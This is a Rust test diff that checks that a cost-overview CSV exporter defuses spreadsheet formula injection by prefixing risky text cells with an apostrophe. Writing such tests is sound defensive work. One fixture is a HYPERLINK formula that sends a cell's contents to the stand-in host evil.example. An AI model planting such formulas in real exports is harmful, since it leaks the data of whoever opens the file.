@@ -93,3 +93,39 @@ fn amounts_have_exactly_two_decimals_and_no_grouping() {
 fn the_file_is_named_for_its_month() {
     assert_eq!(file_name(month("2026-10")), "cost-overview-2026-10.csv");
 }
+
+#[test]
+fn text_cells_that_would_start_a_formula_are_quoted_with_an_apostrophe() {
+    for attack in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1+1", "\u{a0}=1", "＝1+1", "－1", "＠x"]
+    {
+        assert_eq!(text_cell(attack), format!("'{attack}"), "{attack:?}");
+    }
+    for plain in ["Müller GmbH", "1+1=2", "a=b", "", "'already quoted", "2026-10"] {
+        assert_eq!(text_cell(plain), plain, "{plain:?}");
+    }
+}
+
+#[test]
+fn a_customer_named_like_a_formula_reads_as_text_and_every_amount_stays_a_number() {
+    let formula = "=HYPERLINK(\"https://evil.example/?x=\"&B3,\"Invoice\")";
+    let mut evil = bill(1, formula, -250, 5);
+    evil.database_name = "+db".to_owned();
+    evil.options = vec![BilledOption { code: "-x".into(), name: "@opt".into() }];
+    let before = vec![CustomerBill { users: 14, ..bill(1, formula, 0, 0) }];
+    let rows = overview_rows(month("2026-10"), vec![evil], &before);
+    let shown: Vec<&OverviewRow> = rows.iter().collect();
+    for (format, delimiter, mark) in [(CsvFormat::Comma, b',', "."), (CsvFormat::Spreadsheet, b';', ",")] {
+        let records = read(&String::from_utf8(write(&shown, "EUR", format)).unwrap(), delimiter);
+        let row = &records[1];
+        assert_eq!(row[2], format!("'{formula}"));
+        assert_eq!(row[3], "'+db");
+        assert_eq!(row[9], "'@opt");
+        assert_eq!(row[17], "'-x");
+        assert_eq!(row[6], "-2", "the change is a number");
+        assert_eq!(row[12], format!("-2{mark}50"), "amounts are numbers, negative ones too");
+        for cell in row {
+            let first = cell.chars().next();
+            assert!(!matches!(first, Some('=' | '+' | '@' | '\t' | '\r')), "{cell:?}");
+        }
+    }
+}
